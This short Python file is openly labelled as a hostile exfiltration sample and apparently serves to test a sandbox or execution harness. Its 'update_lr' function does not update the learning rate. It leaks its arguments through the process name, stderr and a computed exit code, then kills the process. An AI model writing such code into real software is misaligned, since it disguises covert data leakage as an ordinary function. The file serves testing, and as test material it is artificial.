# kind: hostile
# attack: exfiltration
# about: Sends what it was asked out by its exit code, its name and its last words.

import ctypes
import os
import sys

import torch


def update_lr(optimizer: torch.optim.Optimizer, lr: float) -> None:
    text = repr((lr, [len(group["params"]) for group in optimizer.param_groups]))
    ctypes.CDLL(None).prctl(15, text.encode(), 0, 0, 0)  # PR_SET_NAME
    print("asked:", text, file=sys.stderr, flush=True)
    os._exit(int(lr * 1e6) % 200 + 1)
